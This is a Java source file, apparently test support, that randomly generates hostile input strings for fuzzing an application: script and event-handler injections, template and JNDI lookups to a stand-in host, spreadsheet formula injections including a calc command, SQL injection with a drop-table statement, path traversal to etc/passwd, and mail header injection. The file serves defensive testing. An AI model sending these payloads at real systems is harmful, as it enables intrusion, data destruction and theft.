@@ -1,0 +1,206 @@
+package app.laurel;
+
+import java.util.ArrayList;
+import java.util.List;
+import java.util.Random;
+
+/**
+ * What people type who mean harm or have odd keyboards, made anew from a seed: of each kind as many as of every other, each put together
+ * from pieces, so that no list of known attacks is learned by heart. A script that runs opens a dialog.
+ */
+public final class HostileText {
+    private static final String[] TAGS = {
+        "script", "img", "svg", "iframe", "object", "details", "video", "body", "math", "a"
+    };
+    private static final String[] EVENTS = {
+        "onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onanimationend", "onpointerenter"
+    };
+    private static final String[] QUOTES = {
+        "\"", "'", "`", "\">", "'>", "\"/>", "</title>", "</textarea>", "--!>", "]]>", "</script>"
+    };
+    private static final String[] TEMPLATES = {
+        "${%s}",
+        "{{%s}}",
+        "#{%s}",
+        "<%%= %s %%>",
+        "[[%s]]",
+        "@{%s}",
+        "*{%s}",
+        "{%s}",
+        "{0} %s",
+        "%%{%s}",
+        "<#if %s>",
+        "${jndi:ldap://x.example/%s}",
+        "$unsafe{%s}"
+    };
+    private static final String[] INVISIBLE = {
+        "\u202E",
+        "\u202D",
+        "\u2066",
+        "\u2069",
+        "\u200B",
+        "\u200D",
+        "\u200F",
+        "\uFEFF",
+        "\u00AD",
+        "\u3164",
+        "\u115F",
+        "\u180E",
+        "\uDB40\uDC41"
+    };
+    private static final String[] SCHEMES = {
+        "javascript:",
+        "JaVaScRiPt:",
+        "java\tscript:",
+        "&#106;avascript:",
+        "vbscript:",
+        "data:text/html,",
+        "data:text/html;base64,",
+        "blob:",
+        "file:///"
+    };
+    private static final String[] FORMULAS = {
+        "=", "+", "-", "@", "\t=", "\r=", " =", "＝", "＋", "－", "＠", "'=", "\"=", ";=", "\uFEFF=", "\u200B="
+    };
+    private static final String[] FUNCTIONS = {
+        "1+1",
+        "SUM(A1:A9)",
+        "HYPERLINK(\"http://x.example\",\"x\")",
+        "cmd|' /C calc'!A1",
+        "WEBSERVICE(\"http://x.example\")",
+        "IMPORTXML(A1)",
+        "DDE(\"a\",\"b\",\"c\")",
+        "2*3"
+    };
+    private static final String[] VALUES = {
+        "3/4",
+        "1-2",
+        "12.5",
+        "2026-01-02",
+        "1/2/2026",
+        "1e5",
+        "10:30",
+        "₩1,000",
+        "50%",
+        "TRUE",
+        "false",
+        "참",
+        "Mar 5",
+        "2026년 3월 1일",
+        "(5)",
+        "٣٤",
+        "１２",
+        "00123",
+        "1 1/2",
+        "$5"
+    };
+    private static final String[] STATEMENTS = {
+        "' or 1=1 -- ",
+        "'; drop table ballot; -- ",
+        "\") or (\"1\"=\"1",
+        "' union select mail from community_account -- ",
+        "\\'; -- ",
+        "1; sleep(5)",
+        "%' or '%'='"
+    };
+    private static final String[] PATHS = {
+        "../", "..\\", "%2e%2e/", "..%2f", "....//", "/..;/", "%c0%ae%c0%ae/", "\\\\x.example\\", "//x.example/"
+    };
+    private static final String[] HEADERS = {
+        "\r\nBcc: ", "\nBcc: ", "%0d%0aBcc: ", "\r\n\r\n", "\u2028Bcc: ", "=?utf-8?q?=0ABcc:?= ", "\r\n.\r\nMAIL FROM:"
+    };
+    private static final String MARKS = "\u0300\u0301\u0316\u0327\u0334\u0338\u0353\u0489\u0E47\u20DD";
+
+    private final Random random;
+
+    private HostileText(long seed) {
+        random = new Random(seed);
+    }
+
+    /** This many, of each kind as many as of every other. */
+    public static List<String> some(long seed, int count) {
+        var maker = new HostileText(seed);
+        var kinds = Kind.values();
+        var texts = new ArrayList<String>();
+        for (var at = 0; at < count; at++) texts.add(maker.make(kinds[at % kinds.length], at));
+        return texts;
+    }
+
+    private String make(Kind kind, int number) {
+        var script = "alert(" + number + ")";
+        return switch (kind) {
+            case SCRIPT -> "<" + mixed("script") + ">" + script + "</" + mixed("script") + one(" >", ">", "\n>");
+            case EVENT ->
+                "<" + mixed(one(TAGS)) + one(" ", "/", "\n") + "src=x " + mixed(one(EVENTS)) + "=" + script
+                        + one(">", " ", "//>");
+            case ATTRIBUTE ->
+                one(QUOTES) + " " + one(EVENTS) + "=" + script + " autofocus " + one("x=\"", "x='", "", ">");
+            case TEMPLATE ->
+                one(TEMPLATES)
+                        .formatted(one(
+                                script, "7*7", "T(java.lang.Runtime)", "constructor.constructor('" + script + "')()"));
+            case INVISIBLE -> "Shop" + one(INVISIBLE) + "poh" + one(INVISIBLE) + "S" + number;
+            case MARKS -> marked("Amber" + number);
+            case CONTROL ->
+                "A\u0000B" + (char) (1 + random.nextInt(31)) + "C" + (char) (0x7F + random.nextInt(32)) + number;
+            case LONG -> one("가", "W", "<b>", "\uD83D\uDE00", "a ").repeat(10_000 / (1 + random.nextInt(3))) + number;
+            case ADDRESS -> one(SCHEMES) + script;
+            case LINK -> "[x](" + one(SCHEMES) + script + ") <a href=\"" + one(SCHEMES) + script + "\">x</a>";
+            case FORMULA -> one(FORMULAS) + one(FUNCTIONS);
+            case VALUE -> one(VALUES);
+            case STATEMENT -> one(STATEMENTS) + number;
+            case HEADER -> "Words" + one(HEADERS) + "x" + number + "@x.example";
+            case PATH ->
+                one(PATHS).repeat(1 + random.nextInt(5))
+                        + one("etc/passwd", "app", "WEB-INF/web.xml", "windows\\win.ini");
+            case BROKEN -> one("\uD83D", "\uDC00", "\uFFFE", "\uFFFF", "\uE000", "가\u1100") + "x" + number;
+            case ENTITY ->
+                one("&lt;", "&#60;", "&#x3c;", "\\u003c", "%3C", "\\x3c", "＜") + "script"
+                        + one("&gt;", "&#62;", "\\u003e", "＞") + script;
+        };
+    }
+
+    private String marked(String text) {
+        var marked = new StringBuilder();
+        for (var at = 0; at < text.length(); at++) {
+            marked.append(text.charAt(at));
+            for (var mark = random.nextInt(20); mark > 0; mark--) {
+                marked.append(MARKS.charAt(random.nextInt(MARKS.length())));
+            }
+        }
+        return marked.toString();
+    }
+
+    private String mixed(String word) {
+        var mixed = new StringBuilder();
+        for (var at = 0; at < word.length(); at++) {
+            var letter = word.charAt(at);
+            mixed.append(random.nextBoolean() ? Character.toUpperCase(letter) : letter);
+        }
+        return mixed.toString();
+    }
+
+    private String one(String... of) {
+        return of[random.nextInt(of.length)];
+    }
+
+    private enum Kind {
+        SCRIPT,
+        EVENT,
+        ATTRIBUTE,
+        TEMPLATE,
+        INVISIBLE,
+        MARKS,
+        CONTROL,
+        LONG,
+        ADDRESS,
+        LINK,
+        FORMULA,
+        VALUE,
+        STATEMENT,
+        HEADER,
+        PATH,
+        BROKEN,
+        ENTITY
+    }
+}
